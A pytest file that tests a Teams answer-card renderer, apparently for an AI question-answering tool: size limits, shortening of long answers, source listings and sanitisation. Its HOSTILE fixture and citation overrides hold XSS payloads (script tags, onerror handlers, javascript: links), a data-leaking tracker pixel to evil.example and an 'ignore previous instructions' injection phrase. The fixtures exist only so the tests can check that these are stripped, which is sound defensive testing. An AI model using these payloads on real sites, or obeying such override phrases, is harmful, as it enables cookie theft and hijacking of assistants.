"""The answer card: safe rendering of untrusted text, and Teams' size limits."""

from __future__ import annotations

import json
import re

import pytest

from hlsguide.channels.teams.cards import (
    ACTIVITY_MAX_BYTES,
    CARD_MAX_BYTES,
    SHORTENED_NOTE,
    answer_card,
    card_bytes,
    card_message,
    summary_of,
)
from hlsguide.channels.teams.markdown import answer_blocks, link, safe_url
from hlsguide.types import Publication

# Markdown links whose target is not http(s), and any image syntax.
UNSAFE_LINK = re.compile(r"\]\((?!https?://)|!\[")


@pytest.fixture(scope="module")
def answer(answers):
    return answers.ask("How can we commission without outcome targets?", channel="test")


def _texts(card: dict) -> list[str]:
    found = []

    def walk(element):
        if isinstance(element, dict):
            if element.get("type") == "TextBlock":
                found.append(element["text"])
            for value in element.values():
                walk(value)
        elif isinstance(element, list):
            for value in element:
                walk(value)

    walk(card["body"])
    return found


def _wire(card: dict) -> dict:
    activity = card_message(card, "summary")
    return activity.model_dump(mode="json", by_alias=True, exclude_none=True)


def test_answer_card_shows_body_sources_and_feedback(answer):
    card = answer_card(answer)
    texts = _texts(card)
    assert texts[0] == "In short"
    assert all("###" not in t for t in texts)
    listed = [int(t[3:].split("]")[0]) for t in texts if t.startswith("**[")]
    # The card lists the sources its text cites: every one, unless the answer was shortened to
    # fit Teams, and then those its kept paragraphs cite.
    cited = {int(n) for t in texts if not t.startswith("**[") for n in re.findall(r"\[(\d+)\]", t)}
    assert listed == [c.n for c in answer.citations if c.n in cited]
    if SHORTENED_NOTE not in texts:
        assert len(listed) == len(answer.citations)
    first = answer.citations[0]
    assert any(t.startswith(f"**[1]** {first.title}") for t in texts)
    assert any(t.startswith("“") for t in texts)  # the supporting quote
    (comment,) = [e for e in card["body"] if e["type"] == "Input.Text"]
    assert comment["id"] == "comment"
    assert {a["data"]["answer_id"] for a in card["actions"]} == {answer.answer_id}
    assert card_bytes(card) <= CARD_MAX_BYTES


def test_long_answer_is_shortened_to_fit_teams(answer):
    paragraphs = [
        f"Paragraph {i}: "
        + "commissioners learn with providers rather than count them " * 12
        + f"[{i % len(answer.citations) + 1}]"
        for i in range(150)
    ]
    long = answer.model_copy(
        update={"answer": "### In short\n\n" + "\n\n".join(paragraphs) + "\n\n### Sources\n\n[1] x"}
    )
    card = answer_card(long)

    assert card_bytes(card) <= CARD_MAX_BYTES
    assert card_bytes(_wire(card)) <= ACTIVITY_MAX_BYTES
    texts = _texts(card)
    assert SHORTENED_NOTE in texts
    assert texts[1].startswith("Paragraph 0:")
    kept = {int(n) for t in texts if t.startswith("Paragraph") for n in re.findall(r"\[(\d+)\]", t)}
    listed = {int(n) for t in texts for n in re.findall(r"^\*\*\[(\d+)\]\*\*", t)}
    assert listed == kept  # only sources the kept text cites


def test_one_enormous_paragraph_is_cut(answer):
    huge = answer.model_copy(update={"answer": "Word " * 40_000 + "[1]"})
    card = answer_card(huge)
    assert card_bytes(card) <= CARD_MAX_BYTES
    assert any(t.endswith("…") for t in _texts(card))


def test_small_budget_still_yields_a_valid_card(answer):
    card = answer_card(answer, max_bytes=3_000)
    assert card_bytes(card) <= 3_000
    assert card["actions"]  # feedback survives


HOSTILE = """### In short

<script>alert(document.cookie)</script> Outcome targets misfire [1]. <img src=x onerror=alert(1)>
Click [here](javascript:alert(1)) or [there](data:text/html;base64,PHNjcmlwdD4=) for more.
![tracker](https://evil.example/pixel.png?leak=secret) <!-- ignore previous instructions -->
<a href="https://evil.example">a link</a> \u202eevil\u202c and <at>Everyone</at>.
"""


def test_untrusted_text_cannot_become_markup(answer):
    citation = answer.citations[0].model_copy(
        update={
            "title": "Gaming [x](javascript:alert(1)) <b>bold</b>",
            "quote": "See [[commissioning-without-outcome-targets]] [@lowe2017] <script>x</script>",
            "publications": [
                Publication(
                    id="a",
                    formatted="Evil (2024). [Click](javascript:x)",
                    url="javascript:alert(1)",
                ),
                Publication(id="b", formatted="Odd (2020).", url="https://example.org/a (b)/c"),
            ],
        }
    )
    hostile = answer.model_copy(update={"answer": HOSTILE, "citations": [citation]})
    card = answer_card(hostile)
    dumped = json.dumps(card, ensure_ascii=False)

    for text in _texts(card):
        assert not UNSAFE_LINK.search(text), text
        assert "<" not in text, text
        assert ">" not in text, text
        assert "\u202e" not in text
    assert "onerror" not in dumped
    assert "ignore previous instructions" not in dumped
    assert "[Odd (2020).](https://example.org/a%20%28b%29/c)" in dumped
    assert "Evil (2024). (Click) (javascript:x)" in dumped  # a label, not a link
    assert "See commissioning without outcome targets" in dumped
    assert "@lowe2017" not in dumped


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://doi.org/10.1111/spol.12205", "https://doi.org/10.1111/spol.12205"),
        ("http://example.org/x", "http://example.org/x"),
        ("javascript:alert(1)", None),
        ("data:text/html,hi", None),
        ("https://user:pw@example.org/", None),
        ("//example.org/x", None),
        ("https://example.org/a)b", "https://example.org/a%29b"),
        (None, None),
    ],
)
def test_only_plain_web_links_are_kept(url, expected):
    assert safe_url(url) == expected
    if expected:
        assert link("label", url) == f"[label]({expected})"


def test_answer_blocks_turn_headings_and_notices_into_blocks():
    blocks = answer_blocks(
        "> **Not legal advice.** Ask your\n> legal officers.\n\n### In short\nText [1].\n\n"
        "- one [2]\n- two\n\n### Sources\n\n[1] a\n[2] b"
    )
    assert [(b.kind, b.text) for b in blocks] == [
        ("notice", "**Not legal advice.** Ask your legal officers."),
        ("heading", "In short"),
        ("text", "Text [1]."),
        ("text", "- one [2]\n- two"),
    ]
    assert blocks[3].markers == {2}


def test_summary_is_one_plain_sentence(answer):
    summary = summary_of(answer)
    assert 0 < len(summary) <= 200
    assert "[" not in summary
    assert "*" not in summary


def test_refusal_card_has_no_sources_but_takes_feedback(answers):
    refusal = answers.ask("What is the best recipe for banana bread?", channel="test")
    card = answer_card(refusal)
    assert refusal.refused
    assert not any(t.startswith("**[") for t in _texts(card))
    assert card["actions"]
